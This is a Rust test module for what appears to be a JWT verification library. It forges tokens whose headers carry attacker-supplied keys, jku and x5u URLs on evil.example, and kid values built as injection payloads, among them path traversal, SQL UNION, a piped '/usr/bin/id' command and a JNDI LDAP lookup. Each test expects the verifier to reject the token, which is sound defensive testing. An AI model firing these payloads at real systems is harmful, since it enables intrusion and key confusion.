//! The token chooses the key: embedded keys, injected ids, and keys of other owners and other uses.

use edgeward::verdict::Reason;
use serde_json::{Value, json};

use crate::{
    Case, header,
    support::{Signer, claims, issuer, key, public, with, without},
};

const OTHER: &str = "https://other.example/";

/// A token of the attacker's own key under a header with these members.
fn forged(members: &Value) -> String {
    Signer::STRANGER.mint(header(&Signer::STRANGER, members), claims().to_string())
}

/// The issuer with these keys and one algorithm more.
fn holding(keys: &Value) -> Value {
    let issuer = with(&issuer(&Signer::EDDSA), "algorithms", json!(["EdDSA", "RS256"]));
    with(&issuer, "jwks", json!({ "keys": keys }))
}

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = embedded();
    cases.extend(injected());
    cases.extend(mixed_up());
    cases
}

fn embedded() -> Vec<Case> {
    let hope = "The key that the token brings along verifies it.";
    let own = without(&public("otherEd25519", "k1"), "kid");
    let on = |id, published, members: Value, reason| {
        Case::on(&Signer::EDDSA, id, published, hope).sends(forged(&members), reason)
    };
    vec![
        on("jwk-in-the-header", "CVE-2018-0114", json!({ "jwk": own }), Reason::SignatureInvalid),
        on(
            "jwk-in-the-header-and-no-kid",
            "CVE-2018-0114",
            json!({ "jwk": own, "kid": null }),
            Reason::SignatureInvalid,
        ),
        on(
            "jwk-in-the-header-with-its-kid",
            "CVE-2018-0114",
            json!({ "jwk": public("otherEd25519", "evil"), "kid": "evil" }),
            Reason::SigningKeyUnknown,
        ),
        on("jku", "RFC 8725 §3.10", json!({ "jku": "https://evil.example/jwks.json" }), Reason::SignatureInvalid),
        on(
            "jku-on-a-trusted-host",
            "RFC 8725 §3.10",
            json!({ "jku": "https://issuer.example/redirect?to=evil.example" }),
            Reason::SignatureInvalid,
        ),
        on("x5u", "RFC 8725 §3.10", json!({ "x5u": "https://evil.example/chain.pem" }), Reason::SignatureInvalid),
        on("x5c", "RFC 8725 §3.10", json!({ "x5c": ["MIIBAA"] }), Reason::SignatureInvalid),
        on("x5t", "RFC 7515 §4.1.7", json!({ "x5t": "AA", "x5t#S256": "AA" }), Reason::SignatureInvalid),
        on(
            "secret-in-the-header",
            "CVE-2018-0114",
            json!({ "jwk": { "kty": "oct", "k": "AA" }, "alg": "HS256" }),
            Reason::AlgorithmNotAllowed,
        ),
    ]
}

fn injected() -> Vec<Case> {
    let hope = "The id of the key reaches a file, a query or a shell.";
    let named = |id, kid: &str, reason| {
        Case::on(&Signer::EDDSA, id, "RFC 8725 §3.10", hope).sends(forged(&json!({ "kid": kid })), reason)
    };
    let unknown = Reason::SigningKeyUnknown;
    vec![
        named("kid-path", "../../../../dev/null", unknown),
        named("kid-path-windows", "..\\..\\windows\\win.ini", unknown),
        named("kid-sql", "k1' UNION SELECT 'secret' --", unknown),
        named("kid-command", "k1|/usr/bin/id", unknown),
        named("kid-template", "${jndi:ldap://evil.example/x}", unknown),
        named("kid-url", "https://evil.example/jwks.json#k1", unknown),
        named("kid-nul", "k1\0.pem", unknown),
        named("kid-newline", "k1\r\nx: y", unknown),
        named("kid-prototype", "__proto__", unknown),
        named("kid-constructor", "constructor", unknown),
        named("kid-empty", "", unknown),
        named("kid-in-another-case", "K1", unknown),
        named("kid-long", &"k".repeat(4_000), Reason::HeaderInvalid),
        Case::on(&Signer::EDDSA, "kid-as-array", "RFC 7515 §4.1.4", hope)
            .sends(forged(&json!({ "kid": ["k1"] })), Reason::HeaderInvalid),
        Case::on(&Signer::EDDSA, "kid-as-number", "RFC 7515 §4.1.4", hope)
            .sends(forged(&json!({ "kid": 0 })), Reason::HeaderInvalid),
        Case::on(&Signer::EDDSA, "kid-null", "RFC 7515 §4.1.4", hope)
            .sends(forged(&json!({ "kid": null })), Reason::SignatureInvalid),
    ]
}

fn mixed_up() -> Vec<Case> {
    let own = Signer::EDDSA.jwk();
    let stranger = || public("otherEd25519", "k2");
    let by_stranger = || forged(&json!({ "kid": "k2" }));
    let other = with(&issuer(&Signer::STRANGER), "issuer", OTHER.into());
    let of_other = Signer::STRANGER.token(&with(&claims(), "iss", OTHER.into()));
    let hope = "A key of the set that is not meant for this verifies all the same.";
    let set = |id, published, hope, keys: Value, reason| {
        Case::on(&Signer::EDDSA, id, published, hope).trusting([holding(&keys)]).sends(by_stranger(), reason)
    };
    let unusable = |id, published, bad: Value| set(id, published, hope, json!([own, bad]), Reason::SigningKeyUnusable);
    let private = with(&key("otherEd25519"), "kid", "k2".into());
    vec![
        Case::on(&Signer::EDDSA, "same-kid-at-two-issuers", "RFC 8725 §3.8", "A key is looked up by its id alone.")
            .trusting([issuer(&Signer::EDDSA), other.clone()])
            .sends(Signer::STRANGER.token(&claims()), Reason::SignatureInvalid)
            .beside(of_other.clone()),
        Case::on(&Signer::EDDSA, "kid-of-another-issuer", "RFC 8725 §3.8", "One trusted issuer speaks for another.")
            .trusting([issuer(&Signer::EDDSA), with(&other, "jwks", json!({ "keys": [stranger()] }))])
            .sends(by_stranger(), Reason::SigningKeyUnknown),
        Case::on(
            &Signer::EDDSA,
            "issuer-that-nobody-trusts",
            "RFC 8725 §3.8",
            "Any issuer with a key is as good as another.",
        )
        .sends(of_other, Reason::IssuerUnknown),
        set(
            "two-keys-with-one-kid",
            "RFC 7517 §4.5",
            "One key after the other is tried until one fits.",
            json!([own, public("otherEd25519", "k2"), with(&public("ed25519", "k2"), "use", "sig".into())]),
            Reason::SigningKeyAmbiguous,
        ),
        Case::on(
            &Signer::EDDSA,
            "no-kid-and-two-keys",
            "RFC 8725 §3.8",
            "One key after the other is tried until one fits.",
        )
        .trusting([holding(&json!([own, stranger()]))])
        .sends(forged(&json!({ "kid": null })), Reason::SigningKeyAmbiguous),
        unusable("key-for-encryption", "RFC 7517 §4.2", with(&stranger(), "use", "enc".into())),
        unusable("key-for-signing-alone", "RFC 7517 §4.3", with(&stranger(), "key_ops", json!(["sign"]))),
        unusable("key-of-another-algorithm", "RFC 7517 §4.4", with(&stranger(), "alg", "ES256".into())),
        unusable("private-key-that-was-published", "RFC 7517 §9.2", private),
        unusable("key-on-another-curve", "RFC 8037 §2", with(&stranger(), "crv", "X25519".into())),
        unusable(
            "key-of-a-small-order",
            "RFC 8032 §5.1.7",
            with(&stranger(), "x", "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".into()),
        ),
        unusable(
            "rsa-key-that-can-be-factored",
            "CVE-2017-15361",
            json!({ "kty": "RSA", "kid": "k2", "n": "gQ", "e": "Aw" }),
        ),
    ]
}
